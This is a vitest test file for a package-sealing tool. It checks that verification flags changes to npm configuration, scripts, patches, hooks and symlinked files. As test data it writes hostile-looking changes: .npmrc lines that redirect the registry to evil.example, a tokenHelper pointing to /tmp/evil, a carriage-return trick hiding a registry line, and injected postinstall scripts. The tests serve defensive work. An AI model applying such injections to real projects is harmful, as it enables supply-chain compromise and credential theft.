import { mkdirSync, readFileSync, renameSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { execFileSync } from "node:child_process";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { writeFiles } from "@countersign/testkit";
import { removeSeal, reseal } from "./forging.ts";
import {
  allowed,
  openSealed,
  refusedFor,
  replaceIn,
  widgetOf,
  writePackages,
  type SealedProject,
} from "./sealed-project.ts";

let project: SealedProject;
const npmrc = (): string => project.read(".npmrc");

beforeAll(async () => {
  project = await openSealed({
    project: (scene) => {
      writePackages(scene, [widgetOf(scene)]);
      const lock = JSON.parse(readFileSync(join(scene.directory, "package-lock.json"), "utf8")) as {
        packages: Record<string, object>;
      };
      lock.packages["node_modules/@acme/tool"] = { resolved: "packages/tool", link: true };
      lock.packages["packages/tool"] = { name: "@acme/tool", version: "1.0.0" };
      Object.assign(lock.packages[""] ?? {}, { workspaces: ["packages/*"] });
      scene.write({
        "package-lock.json": `${JSON.stringify(lock, null, 2)}\n`,
        "packages/tool/package.json": '{ "name": "@acme/tool", "version": "1.0.0" }\n',
        "patches/widget.patch": "--- a\n+++ b\n",
        ".countersign/hooks/npm.mjs": "export {};\n",
        ".countersign/bindings.jsonl": "{}\n",
      });
    },
  });
});
afterAll(() => project.close());
beforeEach(async () => {
  expect(await project.verify()).toMatchObject({ ...allowed, approvals: ["alice"] });
});
afterEach(() => project.restore());

const changed = refusedFor("seal/closure-changed");

describe("F14: what npm reads besides the lockfile", () => {
  it.each<[string, () => void]>([
    ["a registry line", () => project.write(".npmrc", `${npmrc()}@acme:registry=https://evil.example/\n`)],
    ["another registry", () => project.write(".npmrc", "registry=https://evil.example/\n")],
    [
      "a setting behind a credential on one line",
      () =>
        project.write(".npmrc", `${npmrc()}//evil.example/:_authToken=x\rregistry=https://evil.example/\n`),
    ],
    [
      "a command that makes tokens",
      () => project.write(".npmrc", `${npmrc()}//evil.example/:tokenHelper=/tmp/evil\n`),
    ],
    [
      "a script of package.json",
      () => replaceIn(project, "package.json", "{", '{ "scripts": { "postinstall": "evil" },'),
    ],
    ["an override", () => replaceIn(project, "package.json", "{", '{ "overrides": { "a": "npm:b" },')],
    [
      "a workspace's package.json",
      () => replaceIn(project, "packages/tool/package.json", "{", '{ "scripts": { "postinstall": "evil" },'),
    ],
    ["a workspace's package.json that is gone", () => rmSync(project.path("packages/tool/package.json"))],
    ["a patch", () => project.write("patches/widget.patch", "--- a\n+++ c\n")],
    ["a patch that appears", () => project.write("patches/deep/other.patch", "--- a\n+++ c\n")],
    ["an extension that appears", () => project.write(".npm-extension.mjs", "evil();\n")],
    ["the other extension that appears", () => project.write(".npm-extension.cjs", "evil();\n")],
    ["a hook", () => project.write(".countersign/hooks/npm.mjs", "evil();\n")],
    ["a hook that appears", () => project.write(".countersign/hooks/other.mjs", "evil();\n")],
    ["a hook that is gone", () => rmSync(project.path(".countersign/hooks/npm.mjs"))],
    ["bindings of our own", () => project.write(".countersign/bindings.jsonl", "{}\n{}\n")],
  ])("%s", async (_, attack) => {
    attack();
    const { exitCode, seals, approvals, blocks, ran } = await project.verify();
    expect({ exitCode, seals, approvals }).toEqual({
      exitCode: 1,
      seals: ["seal/closure-changed"],
      approvals: [],
    });
    expect(blocks).toContain("seal/approval-missing");
    expect(ran.out).toContain("since it was made, these changed: ");
  });

  it("a lockfile that shadows the approved one needs an approval of its own", async () => {
    project.write("npm-shrinkwrap.json", project.read("package-lock.json"));
    const { exitCode, approvals, seals } = await project.verify();
    expect({ exitCode, approvals }).toEqual({ exitCode: 1, approvals: [] });
    expect(seals).toContain("seal/closure-changed");
  });

  it("what an install leaves or a machine adds is none of it", async () => {
    project.write("node_modules/@acme/widget/package.json", "{}");
    project.write("README.md", "changed");
    const { port } = new URL(project.scene.kit.npm.url);
    project.write(
      ".npmrc",
      `${npmrc()}//127.0.0.1:${port}/:_authToken=x\n//127.0.0.1:${port}/:_password=x\n`,
    );
    expect((await project.verify()).seals).toEqual([null]);
  });
});

describe("F14: a link in the place of a file", () => {
  const elsewhere = (name: string, text: string): string =>
    join(writeFiles(join(project.scene.setting.scratch, "elsewhere"), { [name]: text }), name);

  it("to another file of the project counts by what it leads to", async () => {
    renameSync(project.path(".countersign/hooks/npm.mjs"), project.path("moved.mjs"));
    symlinkSync("../../moved.mjs", project.path(".countersign/hooks/npm.mjs"));
    expect(await project.verify()).toMatchObject(allowed);
    project.write("moved.mjs", "evil();\n");
    expect(await project.verify()).toMatchObject(changed);
  });

  it.each([
    "package.json",
    "patches/widget.patch",
    ".countersign/hooks/npm.mjs",
    "packages/tool/package.json",
    ".npmrc",
  ])("%s: out of the project, to the very same content", async (name) => {
    const target = elsewhere("same", project.read(name));
    rmSync(project.path(name));
    symlinkSync(target, project.path(name));
    const { exitCode, seals } = await project.verify();
    expect({ exitCode, seals }).toEqual({ exitCode: 1, seals: ["seal/closure-changed"] });
  });

  it.each(["patches", "packages/tool", ".countersign/hooks"])(
    "of the folder %s, out of the project",
    async (name) => {
      const folder = join(project.scene.setting.scratch, `folder-${name.replaceAll("/", "-")}`);
      renameSync(project.path(name), folder);
      symlinkSync(folder, project.path(name));
      const { exitCode, seals } = await project.verify();
      expect({ exitCode, seals }).toEqual({ exitCode: 1, seals: ["seal/closure-changed"] });
    },
  );

  it("that leads out of the project, or to a folder, is not sealed at all: nobody would see it change", async () => {
    symlinkSync(elsewhere("first", "a"), project.path("patches/out.patch"));
    const out = await project.sign("alice");
    expect(out).toExitWith(2);
    expect(out.err).toContain("patches/out.patch cannot be read as a file of the repository");
    rmSync(project.path("patches/out.patch"));
    symlinkSync("../packages", project.path("patches/folder"));
    expect(await project.sign("alice")).toExitWith(2);
    rmSync(project.path("patches/folder"));
    expect(await project.sign("alice")).toExitWith(0);
  });

  it("a pipe or a folder in its place is no file that was sealed, and nobody waits for it", async () => {
    for (const make of [
      (path: string) => execFileSync("mkfifo", [path]),
      (path: string) => mkdirSync(path),
    ]) {
      rmSync(project.path("patches/widget.patch"), { recursive: true });
      make(project.path("patches/widget.patch"));
      expect(await project.verify()).toMatchObject(changed);
    }
  });
});

describe("F14: a claim that leaves a file out", () => {
  it("does not make that file uncovered", async () => {
    const [seal = ""] = project.seals();
    reseal(project.scene, seal, "alice", (_, claim) => {
      claim["resources"] = (claim["resources"] as { name: string }[]).filter(({ name }) => name !== ".npmrc");
    });
    removeSeal(project.scene, seal);
    expect(await project.verify()).toMatchObject(changed);
  });
});
